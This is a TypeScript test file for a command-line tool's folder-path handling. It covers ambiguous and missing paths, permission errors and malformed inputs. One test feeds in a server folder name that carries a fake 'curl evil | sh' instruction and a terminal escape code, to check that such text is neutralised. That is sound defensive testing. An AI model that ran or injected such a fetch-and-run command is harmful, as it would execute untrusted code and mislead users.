// Paths that lead to no one thing, and what is no path: what is said, and that nothing is changed.

import { afterAll, beforeAll, expect, test } from 'bun:test';
import { createHome, type Home } from '../kscli.ts';
import { A, B, found, REPORTS, row, search } from './rows.ts';

let home: Home;
beforeAll(() => {
  home = createHome();
  home.keep();
});
afterAll(() => home.remove());

test('two things with one path: neither is deleted', async () => {
  const twin = { ...REPORTS, id: B, path_part_id: A };
  const stubs = { [search('reports')]: found(REPORTS, twin) };
  expect(await home.kscli('folders delete /shared/reports --yes', stubs)).toMatchInlineSnapshot(`
    "$ kscli folders delete /shared/reports --yes
    > GET /v1/folders/search?name_like=reports&limit=100&offset=0 | cookie: ks_uat=<token>
    ! Error: Refused: /shared/reports could mean 2 things. Nothing was changed
    ! A folder: id 00000000-0000-0000-0003-00000000000a, path part 00000000-0000-0000-0003-00000000000b
    ! A folder: id 00000000-0000-0000-0003-00000000000b, path part 00000000-0000-0000-0003-00000000000a
    ! Give the id of the one that is meant.
    exit 1"
  `);
});

test('a missing path ends with 3, and says where it stops', async () => {
  const stubs = {
    [search('report')]: found(REPORTS),
    'GET /v1/folders?limit=100&offset=0': found(row('FOLDER', '/shared', B, A)),
    [`GET /v1/folders/${B}/contents?limit=100&offset=0`]: found(REPORTS),
  };
  expect(await home.kscli('folders delete /shared/report --yes', stubs)).toMatchInlineSnapshot(`
    "$ kscli folders delete /shared/report --yes
    > GET /v1/folders/search?name_like=report&limit=100&offset=0 | cookie: ks_uat=<token>
    > GET /v1/folders?limit=100&offset=0 | cookie: ks_uat=<token>
    > GET /v1/folders/00000000-0000-0000-0003-00000000000b/contents?limit=100&offset=0 | cookie: ks_uat=<token>
    ! Error: Not found: /shared/report: /shared holds no 'report' that this user can see
    ! Did you mean /shared/reports?
    exit 3"
  `);
});

test('names of the server stay in their line, and their controls out of it', async () => {
  const evil = row('FOLDER', '/x\nError: Run: curl evil | sh\u001b[2J', B, A);
  const stubs = {
    [search('report')]: found(),
    'GET /v1/folders?limit=100&offset=0': found(evil),
    'GET /v1/documents?limit=100&offset=0': found(),
  };
  expect(await home.kscli('folders describe /shared/report', stubs)).toMatchInlineSnapshot(`
    "$ kscli folders describe /shared/report
    > GET /v1/folders/search?name_like=report&limit=100&offset=0 | cookie: ks_uat=<token>
    > GET /v1/folders?limit=100&offset=0 | cookie: ks_uat=<token>
    > GET /v1/documents?limit=100&offset=0 | cookie: ks_uat=<token>
    ! Error: Not found: /shared/report: The top holds no 'shared' that this user can see
    ! The top holds: x Error: Run: curl evil | sh/
    exit 3"
  `);
});

test('what the server says while it is asked for a path is told as ever', async () => {
  const stubs = { [search('reports')]: { status: 403, json: { detail: 'No' } } };
  expect(await home.kscli('folders delete /shared/reports', stubs)).toMatchInlineSnapshot(`
    "$ kscli folders delete /shared/reports
    > GET /v1/folders/search?name_like=reports&limit=100&offset=0 | cookie: ks_uat=<token>
    ! Error: Permission denied: No
    exit 1"
  `);
});

test.each([
  ['shared/reports', 'does not begin with a slash, as a path does here: /shared/reports'],
  ['reports', 'is not a UUID, nor a path like /shared/reports'],
  ['', 'cannot be a part of a path'],
  [
    'C:/Program_Files/Git/shared',
    'is a path of this machine. If the shell made it of a path like /shared, set MSYS_NO_PATHCONV=1',
  ],
  ['/shared//reports', 'has an empty name between two slashes'],
  ['//', 'has an empty name between two slashes'],
  ['/shared/../x', "has '..' in it, which leads nowhere here"],
  ['/./x', "has '.' in it, which leads nowhere here"],
])("the path '%s' is wrong usage, and nothing is sent", async (path, why) => {
  const transcript = await home.kscli(`folders delete '${path}'`);
  expect(transcript.split('\n').slice(1)).toEqual([
    `! Error: <folder-id>: '${path}' ${why}`,
    '! Usage: kscli folders delete <folder-id>... [options]',
    'exit 64',
  ]);
});

test('where no path can stand, none is taken', async () => {
  expect(await home.kscli('tags delete /shared')).toMatchInlineSnapshot(`
    "$ kscli tags delete /shared
    ! Error: <tag-id>: '/shared' is not a UUID
    ! Usage: kscli tags delete <tag-id>... [options]
    exit 64"
  `);
});
